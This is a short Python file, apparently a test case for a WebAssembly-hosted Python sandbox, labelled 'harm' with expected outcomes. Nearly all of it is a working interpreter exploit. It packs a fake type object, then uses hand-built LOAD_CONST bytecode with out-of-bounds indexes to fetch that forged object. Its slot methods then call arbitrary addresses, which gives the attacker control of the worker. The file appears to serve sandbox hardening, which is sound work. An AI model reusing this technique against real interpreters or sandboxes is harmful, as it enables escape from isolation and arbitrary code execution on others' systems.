# harm: a type object with slots of the attacker's choice calls any function in the worker
# expect: completed failed limit
# engines: wasm
import opcode, struct, types
kind = struct.pack("<" + "I" * 120, 1 << 20, id(type), 0, *([0x1337] * 117))
thing = struct.pack("<IIII", 1 << 20, id(kind) + 16, 0, 0)
holder = (thing,)
def f(): return 1
base = id(f.__code__.co_consts) + 12
def at(address):
    n = ((address - base) // 4) & 0xFFFFFFFF
    E = opcode.opmap["EXTENDED_ARG"]
    return bytes([151, 0, E, n >> 24, E, n >> 16 & 255, E, n >> 8 & 255, opcode.opmap["LOAD_CONST"], n & 255, 83, 0])
pointer = struct.pack("<I", id(thing) + 16)
got = types.FunctionType(f.__code__.replace(co_code=at(id(pointer) + 16)), {})()
str(got), hash(got), got(), got + got, iter(got), len(got)
